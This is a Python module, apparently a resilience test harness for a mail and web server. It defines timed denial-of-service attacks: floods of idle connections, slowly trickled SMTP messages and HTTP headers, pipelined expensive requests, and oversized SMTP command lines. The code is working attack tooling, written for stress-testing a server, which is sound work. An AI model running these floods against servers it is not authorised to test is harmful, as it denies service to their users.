"""What strangers can do to a server by connections, SMTP and HTTP, without an account.

Each attack is a coroutine: `await attack.run(target, seconds)` does its worst for so long and returns what it was told,
a count by first line of answer. The server may refuse in any way it likes; what counts is that others do not notice.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from functools import partial

from .connection import TLS

_PATIENCE = 10.0  # seconds for an answer


@dataclass(frozen=True)
class Target:
    """smtp, imap, https: ports with TLS from the start; mx: one with STARTTLS; 0 where there is none.
    recipient: an address that has an account.
    """

    host: str
    smtp: int
    imap: int
    https: int
    mx: int = 0
    recipient: str = ""


@dataclass(frozen=True)
class Stranger:
    run: Callable[[Target, float], Awaitable[Counter[str]]]

    @property
    def name(self) -> str:
        return self.run.__name__.replace("_", " ")


async def silent_connections(target: Target, seconds: float, count: int = 1000) -> Counter[str]:
    """Connections that never begin their TLS handshake, opened again as soon as they are closed."""

    async def one(said: Counter[str], port: int) -> None:
        reader, writer = await asyncio.open_connection(target.host, port)
        try:
            said["closed" if not await reader.read(1) else "answered"] += 1
        finally:
            writer.transport.abort()

    ports = [port for port in (target.smtp, target.imap, target.https) if port] * (count // 3)
    return await _side_by_side(seconds, [partial(one, port=port) for port in ports * (count // len(ports))])


async def half_messages(target: Target, seconds: float, count: int = 32, octets: int = 16_000_000) -> Counter[str]:
    """Messages from another server, to a recipient that exists: most of each at once, then an octet now and then."""

    async def one(said: Counter[str]) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.mx)
        try:
            await _answer(reader, said)
            for line in ("EHLO evil.example", "STARTTLS"):
                await _ask(reader, writer, line, said)
            await writer.start_tls(TLS)
            for line in ("EHLO evil.example", "MAIL FROM:<evil@evil.example>", f"RCPT TO:<{target.recipient}>", "DATA"):
                await _ask(reader, writer, line, said)
            block = (b"x" * 98 + b"\r\n") * 1000
            for _ in range(octets // len(block)):
                await _send(writer, block)
            while not reader.at_eof():
                await _send(writer, b"x")
                await asyncio.sleep(5)
        finally:
            writer.transport.abort()

    return await _side_by_side(seconds, [one] * count if target.mx and target.recipient else [])


async def slow_requests(target: Target, seconds: float, count: int = 200) -> Counter[str]:
    """Requests whose header comes an octet at a time."""

    async def one(said: Counter[str]) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.https, ssl=TLS)
        try:
            writer.write(b"GET / HTTP/1.1\r\nX-Slow: ")
            while not reader.at_eof():
                await _send(writer, b"x")
                with contextlib.suppress(TimeoutError):
                    await _answer(reader, said, 1.0)
        finally:
            writer.transport.abort()

    return await _side_by_side(seconds, [one] * count)


async def pipelined_requests(target: Target, seconds: float, count: int = 10, path: str = "/qr.png") -> Counter[str]:
    """As many requests as there is room for, without waiting for an answer, for what costs the most."""

    async def one(said: Counter[str]) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.https, ssl=TLS)
        try:
            await _send(writer, f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 300)
            await _answer(reader, said)
            while await reader.read(1 << 16):
                pass
        finally:
            writer.transport.abort()

    return await _side_by_side(seconds, [one] * count)


async def long_lines(target: Target, seconds: float, count: int = 50) -> Counter[str]:
    """SMTP command lines without an end, and commands by the thousand without waiting for an answer."""

    async def one(said: Counter[str], data: bytes) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.smtp, ssl=TLS)
        try:
            for _ in range(1000):
                await _send(writer, data)
            await _answer(reader, said)
        finally:
            writer.transport.abort()

    kinds = (b"x" * 65536, b"NOOP\r\n" * 10_000, b"EHLO x\r\n" * 8000, b"\r\n" * 30_000)
    return await _side_by_side(seconds, [partial(one, data=data) for data in kinds * (count // 4)])


STRANGERS = tuple(map(Stranger, (silent_connections, half_messages, slow_requests, pipelined_requests, long_lines)))


async def _side_by_side(seconds: float, jobs: list[Callable[[Counter[str]], Awaitable[None]]]) -> Counter[str]:
    """Each of them again and again until the time is over."""
    said: Counter[str] = Counter()
    end = time.monotonic() + seconds

    async def again(job: Callable[[Counter[str]], Awaitable[None]]) -> None:
        while (left := end - time.monotonic()) > 0:
            with contextlib.suppress(OSError, EOFError, TimeoutError, asyncio.IncompleteReadError):
                async with asyncio.timeout(left):
                    await job(said)
            await asyncio.sleep(0.05)

    await asyncio.gather(*map(again, jobs))
    return said


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    if writer.transport.is_closing():
        raise EOFError
    writer.write(data)
    await asyncio.sleep(0)  # or a connection that was closed would not be noticed
    await writer.drain()


async def _answer(reader: asyncio.StreamReader, said: Counter[str], seconds: float = _PATIENCE) -> None:
    """One answer, of SMTP perhaps of several lines."""
    while True:
        line = await asyncio.wait_for(reader.readline(), seconds)
        if not line:
            raise EOFError
        if line[3:4] != b"-":
            said[line.decode("ascii", "replace").strip()[:60]] += 1
            return


async def _ask(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, line: str, said: Counter[str]) -> None:
    await _send(writer, line.encode() + b"\r\n")
    await _answer(reader, said)
